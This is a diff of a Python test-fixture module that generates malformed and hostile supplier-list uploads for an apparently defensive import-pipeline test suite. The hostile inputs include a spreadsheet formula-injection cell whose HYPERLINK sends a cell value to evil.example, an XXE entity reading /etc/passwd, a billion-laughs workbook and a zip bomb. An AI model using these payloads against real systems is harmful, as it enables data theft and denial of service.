@@ -18,18 +18,47 @@ from xml.sax.saxutils import escape
 UPLOADS = Path(__file__).resolve().parents[2] / "data" / "uploads"
 _FIXED_TIME = (2024, 1, 1, 0, 0, 0)
 
-HEADER = ["Supplier Name", "Supplier ID", "Country", "Sector", "Products", "Tier", "Workers",
-          "Migrant %", "Recruitment agencies"]
+HEADER = [
+    "Supplier Name",
+    "Supplier ID",
+    "Country",
+    "Sector",
+    "Products",
+    "Tier",
+    "Workers",
+    "Migrant %",
+    "Recruitment agencies",
+]
 CLEAN_ROWS = [
-    ["Acme Garments Ltd", "S-001", "Bangladesh", "apparel", "cotton; garments", "1", "1200",
-     "35%", "Dhaka Manpower"],
+    [
+        "Acme Garments Ltd",
+        "S-001",
+        "Bangladesh",
+        "apparel",
+        "cotton; garments",
+        "1",
+        "1200",
+        "35%",
+        "Dhaka Manpower",
+    ],
     ["Namib Fisheries", "S-002", "NA", "fishing", "fish", "2", "340", "0.1", ""],
     ["Müller Textil GmbH", "S-003", "DE", "textiles", "yarn", "2", "85", "", ""],
-    ["Grupo Azúcar", "S-004", "MEX", "agriculture", "sugarcane", "3", "2 500", "12", "Agencia Uno; Agencia Dos"],
+    [
+        "Grupo Azúcar",
+        "S-004",
+        "MEX",
+        "agriculture",
+        "sugarcane",
+        "3",
+        "2 500",
+        "12",
+        "Agencia Uno; Agencia Dos",
+    ],
 ]
 
 
 # --- XLSX assembly -------------------------------------------------------------------------
+
 
 def _col(index: int) -> str:
     label, n = "", index + 1
@@ -73,7 +102,7 @@ def sheet_xml(rows: Sequence[Sequence[Cell]], first_row: int = 1, prolog: str = 
     return (
         f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
         '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-        f'<sheetData>{"".join(body)}</sheetData></worksheet>'
+        f"<sheetData>{''.join(body)}</sheetData></worksheet>"
     )
 
 
@@ -171,6 +200,7 @@ def build_xlsx(
 
 # --- the small corpus ----------------------------------------------------------------------
 
+
 def _csv(rows: Sequence[Sequence[str]], delimiter: str = ",", newline: str = "\r\n") -> str:
     def quote(cell: str) -> str:
         if any(ch in cell for ch in (delimiter, '"', "\n", "\r")):
@@ -215,9 +245,11 @@ def small_corpus() -> dict[str, bytes]:
     )
     files["invalid_bytes.csv"] = b"Supplier,Country\r\nAcme \x81\x8d Ltd,FR\r\n"
     files["formulas.csv"] = _csv(
-        [["Supplier", "Country", "Address"],
-         ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "FR", "+33 1 23"],
-         ["@SUM(1+1)", "DE", "-2+3"]]
+        [
+            ["Supplier", "Country", "Address"],
+            ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "FR", "+33 1 23"],
+            ["@SUM(1+1)", "DE", "-2+3"],
+        ]
     ).encode()
     files["long_cell.csv"] = _csv(
         [["Supplier", "Country", "Address"], ["Acme", "FR", "x" * 40_000], ["Beta", "FR", "ok"]]
@@ -225,65 +257,126 @@ def small_corpus() -> dict[str, bytes]:
     files["nul_bytes.csv"] = b"Supplier,Country\r\nAc\x00me,FR\r\nBeta,DE\r\n"
     rng = random.Random(7)
     files["binary_renamed.csv"] = bytes(rng.randrange(256) for _ in range(4096)) + b"\x00" * 512
-    files["pdf_renamed.xlsx"] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
+    files["pdf_renamed.xlsx"] = (
+        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
+    )
     files["legacy.xls"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
     files["image_renamed.csv"] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
     files["namibia_na.csv"] = _csv(
-        [["Supplier", "Country", "City", "Sector"],
-         ["Windhoek Meat", "NA", "None", "null"],
-         ["NaN Foods", "NA", "NaN", "N/A"]]
+        [
+            ["Supplier", "Country", "City", "Sector"],
+            ["Windhoek Meat", "NA", "None", "null"],
+            ["NaN Foods", "NA", "NaN", "N/A"],
+        ]
     ).encode()
     files["excel_dates.xlsx"] = build_xlsx(
-        [("Sheet1", sheet_xml([
-            ["Supplier", "Country", "Audit date", "Workers", "Migrant share", "Active"],
-            ["Acme", "FR", ("date", 45352), 1200.0, 0.35, True],
-            ["Beta", "DE", ("date", 45000.0), 85, 0.1 + 0.2, False],
-        ]))]
+        [
+            (
+                "Sheet1",
+                sheet_xml(
+                    [
+                        ["Supplier", "Country", "Audit date", "Workers", "Migrant share", "Active"],
+                        ["Acme", "FR", ("date", 45352), 1200.0, 0.35, True],
+                        ["Beta", "DE", ("date", 45000.0), 85, 0.1 + 0.2, False],
+                    ]
+                ),
+            )
+        ]
     )
     files["thousands_separators.csv"] = _csv(
-        [["Supplier", "Country", "Workers"],
-         ["A", "FR", "1,200"], ["B", "FR", "1 200"], ["C", "FR", "1.200"], ["D", "FR", "1200.0"],
-         ["E", "FR", "1\u202f200"], ["F", "FR", "1.5"], ["G", "FR", "about 300"],
-         ["H", "FR", "1,200,000"], ["I", "FR", "12,00"]]
+        [
+            ["Supplier", "Country", "Workers"],
+            ["A", "FR", "1,200"],
+            ["B", "FR", "1 200"],
+            ["C", "FR", "1.200"],
+            ["D", "FR", "1200.0"],
+            ["E", "FR", "1\u202f200"],
+            ["F", "FR", "1.5"],
+            ["G", "FR", "about 300"],
+            ["H", "FR", "1,200,000"],
+            ["I", "FR", "12,00"],
+        ]
     ).encode()
-    utf16_rows = [["Supplier", "Country", "City"], ["Şişecam", "TR", "İstanbul"],
-                  ["北京纺织", "CN", "北京"]]
+    utf16_rows = [
+        ["Supplier", "Country", "City"],
+        ["Şişecam", "TR", "İstanbul"],
+        ["北京纺织", "CN", "北京"],
+    ]
     files["utf16le_bom.txt"] = _csv(utf16_rows, delimiter="\t").encode("utf-16")  # LE BOM
     files["utf16be_bom.csv"] = b"\xfe\xff" + _csv(utf16_rows, delimiter="\t").encode("utf-16-be")
-    files["utf16le_no_bom.csv"] = _csv([*utf16_rows[:1], ["Acme", "FR", "Lyon"]]).encode("utf-16-le")
+    files["utf16le_no_bom.csv"] = _csv([*utf16_rows[:1], ["Acme", "FR", "Lyon"]]).encode(
+        "utf-16-le"
+    )
     files["cp1252_accents.csv"] = _csv(
-        [["Fournisseur", "Pays", "Ville"], ["Société Générale Textile", "France", "Besançon"],
-         ["Müller & Söhne", "Allemagne", "Köln"], ["Café “Œuvre” – 50€", "FR", "Nîmes"]],
+        [
+            ["Fournisseur", "Pays", "Ville"],
+            ["Société Générale Textile", "France", "Besançon"],
+            ["Müller & Söhne", "Allemagne", "Köln"],
+            ["Café “Œuvre” – 50€", "FR", "Nîmes"],
+        ],
         delimiter=";",
     ).encode("cp1252")
-    files["semicolon_bom.csv"] = b"\xef\xbb\xbf" + _csv(
-        [["Nom du fournisseur", "Pays", "Effectif", "% travailleurs migrants"],
-         ["Filature du Nord", "FR", "1 200", "12,5"], ["Textiles Sud", "MA", "300", "0,4"]],
-        delimiter=";",
-    ).encode()
+    files["semicolon_bom.csv"] = (
+        b"\xef\xbb\xbf"
+        + _csv(
+            [
+                ["Nom du fournisseur", "Pays", "Effectif", "% travailleurs migrants"],
+                ["Filature du Nord", "FR", "1 200", "12,5"],
+                ["Textiles Sud", "MA", "300", "0,4"],
+            ],
+            delimiter=";",
+        ).encode()
+    )
     files["french_headers.csv"] = _csv(
-        [["N° fournisseur", "Raison sociale", "Pays", "Région", "Secteur", "Produits", "Effectif"],
-         ["F-1", "Usine Dupont", "France", "Bretagne", "agriculture", "lait", "40"]]
+        [
+            [
+                "N° fournisseur",
+                "Raison sociale",
+                "Pays",
+                "Région",
+                "Secteur",
+                "Produits",
+                "Effectif",
+            ],
+            ["F-1", "Usine Dupont", "France", "Bretagne", "agriculture", "lait", "40"],
+        ]
     ).encode()
     files["spanish_headers.csv"] = _csv(
-        [["Código proveedor", "Proveedor", "País", "Ciudad", "Productos", "Trabajadores"],
-         ["P-9", "Textiles Andinos", "Perú", "Lima", "algodón", "150"]]
+        [
+            ["Código proveedor", "Proveedor", "País", "Ciudad", "Productos", "Trabajadores"],
+            ["P-9", "Textiles Andinos", "Perú", "Lima", "algodón", "150"],
+        ]
     ).encode()
     files["chinese_headers.csv"] = _csv(
-        [["供应商编号", "供应商名称", "国家", "城市", "主要产品", "员工人数"],
-         ["C-1", "广州服装厂", "CN", "广州", "服装", "800"]]
+        [
+            ["供应商编号", "供应商名称", "国家", "城市", "主要产品", "员工人数"],
+            ["C-1", "广州服装厂", "CN", "广州", "服装", "800"],
+        ]
     ).encode()
     files["portuguese_german_headers.csv"] = _csv(
-        [["Fornecedor", "País", "Lieferantennummer", "Mitarbeiter"],
-         ["Café do Brasil", "BR", "L-7", "55"]]
+        [
+            ["Fornecedor", "País", "Lieferantennummer", "Mitarbeiter"],
+            ["Café do Brasil", "BR", "L-7", "55"],
+        ]
     ).encode()
     files["named_sheet.xlsx"] = build_xlsx(
-        [("Read me", sheet_xml([["This workbook lists our suppliers."]])),
-         ("Suppliers", sheet_xml(
-             [["Supplier list Q3 2024"], [], ["Vendor name", "Country", "Vendor ID"],
-              ["Acme", "FR", 1001], ["Beta", "NA", "B-2"]]))]
+        [
+            ("Read me", sheet_xml([["This workbook lists our suppliers."]])),
+            (
+                "Suppliers",
+                sheet_xml(
+                    [
+                        ["Supplier list Q3 2024"],
+                        [],
+                        ["Vendor name", "Country", "Vendor ID"],
+                        ["Acme", "FR", 1001],
+                        ["Beta", "NA", "B-2"],
+                    ]
+                ),
+            ),
+        ]
     )
-    dtd = ('<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
+    dtd = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
     files["xxe.xlsx"] = build_xlsx(
         [("Sheet1", sheet_xml([[("shared", 0), "Country"], [("shared", 1), "FR"]]))],
         shared_strings=(
@@ -293,19 +386,36 @@ def small_corpus() -> dict[str, bytes]:
         ),
     )
     files["billion_laughs.xlsx"] = build_xlsx(
-        [("Sheet1", sheet_xml([["Supplier", "Country"], ["&lol3;", "FR"]],
-                              prolog='<!DOCTYPE lolz [<!ENTITY lol "lol">'
-                                     '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
-                                     '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]>'))]
+        [
+            (
+                "Sheet1",
+                sheet_xml(
+                    [["Supplier", "Country"], ["&lol3;", "FR"]],
+                    prolog='<!DOCTYPE lolz [<!ENTITY lol "lol">'
+                    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
+                    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]>',
+                ),
+            )
+        ]
     )
     files["formula_cached.xlsx"] = build_xlsx(
-        [("Sheet1", sheet_xml([
-            ["Supplier", "Country", "Address", "Workers"],
-            ["Acme", ("formula", ('UPPER("fr")', "FR")),
-             ("formula", ('HYPERLINK("http://evil.example","click")', "click")),
-             ("formula", ("SUM(600,600)", 1200))],
-            ["Beta", "DE", '=HYPERLINK("http://evil.example","x")', 10],
-        ]))]
+        [
+            (
+                "Sheet1",
+                sheet_xml(
+                    [
+                        ["Supplier", "Country", "Address", "Workers"],
+                        [
+                            "Acme",
+                            ("formula", ('UPPER("fr")', "FR")),
+                            ("formula", ('HYPERLINK("http://evil.example","click")', "click")),
+                            ("formula", ("SUM(600,600)", 1200)),
+                        ],
+                        ["Beta", "DE", '=HYPERLINK("http://evil.example","x")', 10],
+                    ]
+                ),
+            )
+        ]
     )
     plain_zip = io.BytesIO()
     with zipfile.ZipFile(plain_zip, "w") as archive:
@@ -313,17 +423,21 @@ def small_corpus() -> dict[str, bytes]:
     files["zip_renamed.xlsx"] = plain_zip.getvalue()
     files["truncated.xlsx"] = files["clean_suppliers.xlsx"][:300]
     files["pipe_delimited.csv"] = _csv(
-        [["Vendor", "Country", "Address"], ["Acme", "FR", "1, rue de la Paix; Paris"]], delimiter="|"
+        [["Vendor", "Country", "Address"], ["Acme", "FR", "1, rue de la Paix; Paris"]],
+        delimiter="|",
     ).encode()
     files["tab_delimited.tsv"] = _csv(
         [["Factory name", "Country", "City"], ["Acme, Inc.", "US", "Austin; TX"]], delimiter="\t"
     ).encode()
     files["quoted_newlines.csv"] = _csv(
-        [["Supplier", "Country", "Address"],
-         ["Acme", "FR", "12 rue X\r\nBâtiment B\r\n75001 Paris"], ["Beta", "DE", "Hauptstr. 1"]]
+        [
+            ["Supplier", "Country", "Address"],
+            ["Acme", "FR", "12 rue X\r\nBâtiment B\r\n75001 Paris"],
+            ["Beta", "DE", "Hauptstr. 1"],
+        ]
     ).encode()
     files["unclosed_quote.csv"] = (
-        "Supplier,Country\r\nAcme,FR\r\n\"Broken,FR\r\n"
+        'Supplier,Country\r\nAcme,FR\r\n"Broken,FR\r\n'
         + "".join(f"Row {i},FR\r\n" for i in range(30))
     ).encode()
     files["title_rows.csv"] = _csv(
@@ -346,6 +460,7 @@ def write_small_corpus(target: Path = UPLOADS) -> list[Path]:
 
 
 # --- big files, generated at test time -------------------------------------------------------
+
 
 def zip_bomb_xlsx(expanded_bytes: int = 64 * 1024 * 1024) -> bytes:
     """A workbook whose one sheet inflates from ~64 KiB to ``expanded_bytes`` of whitespace
@@ -373,11 +488,32 @@ def zip_bomb_xlsx(expanded_bytes: int = 64 * 1024 * 1024) -> bytes:
 def messy_supplier_lines(rows: int, seed: int = 1) -> Iterator[str]:
     """CSV lines of a messy supplier list: mixed country spellings, separators, blanks, quotes."""
     rng = random.Random(seed)
-    countries = ["FR", "France", "NA", "Bangladesh", "BGD", "cn", "China", "Viet Nam", "Brasil",
-                 "Untied States", "DE", "India", "TR", ""]
+    countries = [
+        "FR",
+        "France",
+        "NA",
+        "Bangladesh",
+        "BGD",
+        "cn",
+        "China",
+        "Viet Nam",
+        "Brasil",
+        "Untied States",
+        "DE",
+        "India",
+        "TR",
+        "",
+    ]
     sectors = ["apparel", "Textiles", "agriculture", "electronics", "fishing", "mining", "??"]
-    products = ["cotton; garments", "sugarcane", "fish/shrimp", "bricks", "", "tomatoes, tea",
-                "cobalt|copper"]
+    products = [
+        "cotton; garments",
+        "sugarcane",
+        "fish/shrimp",
+        "bricks",
+        "",
+        "tomatoes, tea",
+        "cobalt|copper",
+    ]
     workers = ["1,200", "1 200", "340", "1200.0", "", "about 50", "2.500", "0"]
     shares = ["35%", "0.2", "12", "", "150%", "0,4"]
     yield "Supplier Name,Supplier ID,Country,City,Address,Sector,Products,Tier,Workers,Migrant %\r\n"
@@ -386,8 +522,8 @@ def messy_supplier_lines(rows: int, seed: int = 1) -> Iterator[str]:
         address = f"{i} Main Street" if i % 17 else f'"{i} Main St\nUnit {i % 7}"'
         yield (
             f"{name},S-{i},{rng.choice(countries)},City {i % 300},{address},"
-            f"{rng.choice(sectors)},\"{rng.choice(products)}\",{rng.choice(['1', '2', '3', 'x'])},"
-            f"\"{rng.choice(workers)}\",\"{rng.choice(shares)}\"\r\n"
+            f'{rng.choice(sectors)},"{rng.choice(products)}",{rng.choice(["1", "2", "3", "x"])},'
+            f'"{rng.choice(workers)}","{rng.choice(shares)}"\r\n'
         )
 
 
